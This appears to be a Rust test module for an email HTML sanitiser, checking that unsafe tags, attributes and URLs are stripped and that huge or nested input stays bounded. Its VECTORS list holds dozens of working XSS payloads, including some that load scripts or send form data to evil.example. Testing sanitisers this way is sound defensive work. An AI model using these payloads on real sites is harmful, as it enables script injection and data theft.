use std::time::{Duration, Instant};

use proptest::prelude::*;

use super::{SanitiseOptions, sanitise};

fn closed(html: &str) -> String {
    sanitise(html, &SanitiseOptions::default())
}

/// Every tag of the output is a known one with known attributes, and every address in it is a harmless one.
fn assert_is_safe(input: &str, output: &str) {
    for tag in output.split('<').skip(1) {
        let tag = tag.split_once('>').unwrap_or_else(|| panic!("{output:?} from {input:?}")).0;
        let tag = tag.trim_start_matches('/');
        let (name, mut rest) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(
            super::TAGS.contains(&name) || super::MORE_TAGS.contains(&name),
            "{name:?} in {output:?} from {input:?}"
        );
        while let Some((attribute, value)) = rest.split_once("=\"") {
            let (value, behind) = value.split_once('"').unwrap();
            let is_harmless = match attribute.trim() {
                "href" => ["http://", "https://", "mailto:"].iter().any(|s| value.to_ascii_lowercase().starts_with(s)),
                "src" => value.starts_with("data:image/") || value.starts_with("/cid/"),
                "style" => {
                    !value.contains(['\\', '/', '@', '<']) && !value.contains("url(") && !value.contains("expression")
                }
                known => ATTRIBUTES.contains(&known),
            };
            assert!(is_harmless, "{attribute}={value} in {output:?} from {input:?}");
            rest = behind;
        }
        assert_eq!(rest.trim(), "", "{output:?} from {input:?}");
    }
}

const ATTRIBUTES: [&str; 25] = [
    "dir",
    "lang",
    "title",
    "align",
    "valign",
    "bgcolor",
    "alt",
    "width",
    "height",
    "border",
    "cellpadding",
    "cellspacing",
    "colspan",
    "rowspan",
    "nowrap",
    "span",
    "color",
    "face",
    "size",
    "start",
    "type",
    "rel",
    "target",
    "data-blocked",
    "",
];

const VECTORS: [&str; 58] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "<script/x>alert(1)</script/y>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"jav\tascript:alert(1);\">",
    "<img src=\"http://evil.example/track.gif\">",
    "<img srcset=\"http://evil.example/a 1x\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<img src=\"data:text/html,<script>alert(1)</script>\">",
    "<img src=\" &#14; javascript:alert(1);\">",
    "<img/onerror=\"alert(1)\"/src=x>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"//evil.example\" onclick=alert(1)>x</a>",
    "<a href=x target=_self ping=http://evil.example>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form action=\"http://evil.example\"><input name=password><button>go</button></form>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"http://evil.example/x.swf\">",
    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<base href=\"http://evil.example/\">",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<div style=\"background:url(http://evil.example/x)\">x</div>",
    "<div style=\"background-color:u\\72l(http://evil.example)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"color:red;behavior:url(x.htc);position:fixed\">x</div>",
    "<div style=\"font-family:'x;}@import url(http://evil.example)'\">x</div>",
    "<table background=\"http://evil.example/x\"><td background=javascript:alert(1)>x</table>",
    "<body onload=alert(1) background=\"http://evil.example/x\">x</body>",
    "<video><source onerror=alert(1)><track src=x></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src onerror=alert(1)>\">",
    "<title><img title=\"</title><img src onerror=alert(1)>\"></title>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<p id=getElementById name=cookie class=modal onmouseover=alert(1)>x</p><xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
];

#[test]
fn no_vector_comes_through() {
    for vector in VECTORS {
        let output = closed(vector);
        assert_is_safe(vector, &output);
        let again = closed(&output);
        assert_is_safe(vector, &again);
        let open = SanitiseOptions { remote_images: false, cid_prefix: Some("/cid/".to_owned()) };
        assert_is_safe(vector, &sanitise(vector, &open));
    }
}

#[test]
fn an_honest_letter_looks_the_same() {
    let html = "<div dir=\"ltr\"><p style=\"color:rgb(1, 2, 3);font-family:Arial, sans-serif;\">Hi <b>there</b></p>\
        <table width=\"100%\" cellpadding=\"0\"><tbody><tr><td align=\"center\" bgcolor=\"#fff\">1</td></tr></tbody></table></div>";
    assert_eq!(closed(html), html);
}

#[test]
fn links_leave_the_page_without_a_trace() {
    let output = closed(
        "<a href=\"https://shop.example/?a=1&amp;b=2\">x</a><a href=mailto:a@b.example>y</a><a href=\"#z\">z</a>",
    );
    assert!(output.starts_with("<a href=\"https://shop.example/?a=1&amp;b=2\""), "{output}");
    assert_eq!(output.matches("rel=\"noopener noreferrer nofollow\"").count(), 3, "{output}");
    assert_eq!(output.matches("target=\"_blank\"").count(), 3, "{output}");
    assert!(output.contains("mailto:a@b.example") && !output.contains("#z"), "{output}");
}

#[test]
fn remote_pictures_wait_until_they_are_asked_for() {
    let html = "<img src=\"https://x.example/p.png\" alt=\"logo\"><img src=http://x.example/q.png>";
    let output = closed(html);
    assert_eq!(output.matches("data-blocked").count(), 2, "{output}");
    assert!(output.contains("alt=\"logo\"") && !output.contains("x.example"), "{output}");
    let output = sanitise(html, &SanitiseOptions { remote_images: true, cid_prefix: None });
    assert!(output.contains("src=\"https://x.example/p.png\"") && !output.contains("http://x.example"), "{output}");
}

#[test]
fn embedded_pictures_come_from_the_letter() {
    let options = SanitiseOptions { remote_images: false, cid_prefix: Some("/api/v1/messages/7/cid/".to_owned()) };
    let output = sanitise("<img src=\"cid:p1@x/../y\">", &options);
    assert_eq!(output, "<img src=\"/api/v1/messages/7/cid/p1%40x%2F..%2Fy\">");
    assert_eq!(closed("<img src=\"cid:p1@x\">"), "<img>");
    let data = "<img src=\"data:image/png;base64,iVBORw0KGgo=\">";
    assert_eq!(closed(data), data);
}

#[test]
fn deep_and_wide_html_is_bounded() {
    let start = Instant::now();
    let work = || {
        let repeated = |tags: &str| tags.repeat(100_000) + "end";
        let fonts: String = (0..2_000).map(|n| format!("<font size={n}>")).collect();
        let paragraphs = format!("{fonts}{}", "<p>x</p>".repeat(100_000));
        let reopened = format!("<p>{fonts}{}", "<div>x</div>".repeat(100_000));
        for html in [
            repeated("<div>"),
            repeated("<b>"),
            repeated("<table>"),
            repeated("<table><tr><td>"),
            repeated("<a href=x>"),
            repeated("<svg>"),
            repeated("<p><font size=1>"),
            repeated("<!--"),
            repeated("<div"),
            repeated("</p>"),
            repeated("<ul><li>"),
            repeated("<div a='"),
            repeated("<script>"),
            repeated("<select>"),
            repeated("<button>"),
            repeated("<!-- -- >"),
            repeated("<h1><a>"),
            paragraphs,
            reopened,
        ] {
            let output = closed(&html);
            assert!(output.len() <= html.len() * 4 + 1_000_000, "{} from {}", output.len(), html.len());
            assert_is_safe("", &output);
        }
    };
    std::thread::Builder::new().stack_size(2 * 1024 * 1024).spawn(work).unwrap().join().unwrap();
    assert!(start.elapsed() < Duration::from_secs(120), "{:?}", start.elapsed());
}

proptest! {
    #[test]
    fn no_pieces_make_a_vector(pieces in proptest::collection::vec(proptest::sample::select(&[
        "<", ">", "\"", "'", "=", "/", " ", "\n", "\0", "script", "<script>", "</script>", "<style>", "</style>", "<svg>",
        "<math>", "<!--", "-->", "<img ", "src=", "onerror=", "javascript:", "<a href=", "&lt;", "&#60;", "<table>", "<td>",
        "<p>", "</p>", "<title>", "</title>", "<textarea>", "<noscript>", "x", "style=", "url(", "cid:", "https://e.example/",
    ][..]), 0..25)) {
        let html = pieces.concat();
        assert_is_safe(&html, &closed(&html));
    }
}
